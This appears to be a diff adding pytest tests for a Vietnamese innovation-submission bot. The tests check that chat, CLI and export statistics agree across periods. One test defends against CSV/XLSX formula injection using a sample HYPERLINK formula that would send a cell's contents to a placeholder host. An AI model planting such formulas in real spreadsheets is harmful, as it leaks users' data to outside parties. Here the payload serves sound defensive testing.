@@ -1,0 +1,147 @@
+"""Figures that reconcile: for any period of days, a month or a quarter, /stats in the chat,
+`sangkien stats` and the export count the same submissions."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from datetime import date, datetime
+from pathlib import Path
+
+import openpyxl
+import pytest
+from sqlalchemy.ext.asyncio import AsyncSession
+
+from bot import admin
+from bot.app import App
+from bot.clock import FixedClock
+from bot.review import WITHDRAWN, change_status, file
+from bot.stats.export import export
+from bot.stats.views import Period
+from bot.store.uow import UnitOfWork
+from rules.campaigns import TZ
+from tests.fakechat import FakeChat
+from tests.flow import grant_role, login
+from tests.records import placeholder_submission
+
+
+def local(*parts: int) -> datetime:
+    return datetime(*parts, tzinfo=TZ)  # type: ignore[misc]
+
+
+# Filed at these local times: around midnight, at month and quarter ends, a Sunday night.
+FILED = [
+    ("t24", local(2022, 1, 31, 23, 50)),
+    ("t24.hiep_hoa", local(2022, 2, 1, 0, 10)),
+    ("t24.hiep_hoa", local(2022, 2, 27, 23, 59)),  # a Sunday: the week of 21/02
+    ("t24", local(2022, 2, 28, 0, 1)),
+    ("t24.lang_giang", local(2022, 3, 1, 8, 0)),
+    ("t24", local(2022, 3, 6, 23, 30)),
+    ("t24.lang_giang", local(2022, 3, 31, 23, 59)),
+    ("t24", local(2022, 4, 1, 0, 0)),
+    ("t34", local(2022, 3, 15, 12, 0)),  # another province: never in Bắc Giang's figures
+]
+WITHDRAWN_INDEX = 5  # withdrawn: out of every count
+
+PERIODS = [  # what the officer types, the first and last day it means
+    ("tháng 3/2022", date(2022, 3, 1), date(2022, 3, 31)),
+    ("thang 2/2022", date(2022, 2, 1), date(2022, 2, 28)),
+    ("quý 1/2022", date(2022, 1, 1), date(2022, 3, 31)),
+    ("quy 2/2022", date(2022, 4, 1), date(2022, 6, 30)),
+    ("28/02/2022 06/03/2022", date(2022, 2, 28), date(2022, 3, 6)),  # one ISO week
+    ("01/02/2022 27/02/2022", date(2022, 2, 1), date(2022, 2, 27)),  # cuts two weeks
+    ("năm 2022", date(2022, 1, 1), date(2022, 12, 31)),
+]
+
+
+def expected(first: date, last: date) -> int:
+    return sum(
+        1
+        for index, (unit, at) in enumerate(FILED)
+        if unit.startswith("t24") and index != WITHDRAWN_INDEX and first <= at.date() <= last
+    )
+
+
+async def seed(app: App) -> None:
+    services = app.engine.services
+    async with UnitOfWork(app.sessions) as uow:
+        author = await uow.people.add_person("+84912000101", services.clock.now(), verified=False)
+        for index, (unit, at) in enumerate(FILED):
+            submission = placeholder_submission(
+                at,
+                draft_id=f"period-{index}",
+                person_id=author.id,
+                channel="fake",
+                unit_code=unit,
+                title=f"Sáng kiến {index}",
+                description="Mô tả",
+            )
+            await file(uow, services.catalog, submission, [], "SK")
+            if index == WITHDRAWN_INDEX:
+                assert await change_status(
+                    uow, services.catalog, submission, WITHDRAWN, None, author.id, at
+                )
+        await uow.commit()
+
+
+def total_in(stats_text: str) -> int:
+    return int(re.search(r"Tổng số sáng kiến: ([\d.]+)", stats_text)[1].replace(".", ""))  # type: ignore[index]
+
+
+@pytest.mark.parametrize(("typed", "first", "last"), PERIODS)
+async def test_stats_cli_and_export_count_the_same_rows(
+    app: App, clock: FixedClock, tmp_path: Path, typed: str, first: date, last: date
+) -> None:
+    await seed(app)
+    officer = FakeChat(app.engine, user_id="officer", channel="telegram")
+    await login(officer, "0987 000 111")
+    await grant_role(app, clock, officer, "officer", "t24")
+    want = expected(first, last)
+
+    await officer.send(f"/stats {typed}")
+    assert f"{first:%d/%m/%Y}" in officer.text and f"{last:%d/%m/%Y}" in officer.text
+    in_chat = total_in(officer.text)
+    await officer.send(f"/xuat {typed}")
+    exported = int(re.search(r"Bắc Giang, (\d+) sáng kiến", officer.text)[1])  # type: ignore[index]
+    on_command_line = total_in(await admin.print_stats(app, "t24", first, last, recount=False))
+    rows = await admin.write_export(app, "t24", first, last, tmp_path / "x.xlsx", None, False)
+    assert (in_chat, exported, on_command_line, rows) == (want, want, want, want)
+
+
+async def test_named_periods_that_do_not_exist_are_explained(app: App, clock: FixedClock) -> None:
+    officer = FakeChat(app.engine, user_id="officer", channel="telegram")
+    await login(officer, "0987 000 111")
+    await grant_role(app, clock, officer, "officer", "t24")
+    await officer.send("/stats tháng 13/2022")
+    assert "Kỳ báo cáo chưa đúng" in officer.text
+    await officer.send("/stats quý 5/2022")
+    assert "Kỳ báo cáo chưa đúng" in officer.text
+
+
+async def test_formula_looking_text_stays_text_in_xlsx_and_csv(app: App) -> None:
+    title = '=HYPERLINK("http://example.invalid/?"&B5,"Xem")'
+    services = app.engine.services
+    async with UnitOfWork(app.sessions) as uow:
+        author = await uow.people.add_person("+84912000102", services.clock.now(), verified=False)
+        submission = placeholder_submission(
+            services.clock.now(),
+            draft_id="formula",
+            person_id=author.id,
+            channel="fake",
+            unit_code="t24",
+            title=title,
+            description="@SUM(1+1)",
+        )
+        await file(uow, services.catalog, submission, [], "SK")
+        await uow.commit()
+    async with AsyncSession(app.db) as session:
+        files = await export(
+            session, services.campaign, services.catalog, None, "Toàn quốc", Period(), False
+        )
+    sheet = openpyxl.load_workbook(io.BytesIO(files.xlsx)).active
+    row = next(sheet.iter_rows(min_row=5))
+    cells = {cell.value: cell.data_type for cell in row}
+    assert cells[title] == "s" and cells["@SUM(1+1)"] == "s"
+    [line] = list(csv.reader(io.StringIO(files.csv.decode("utf-8-sig"))))[1:]
+    assert f"'{title}" in line and "'@SUM(1+1)" in line
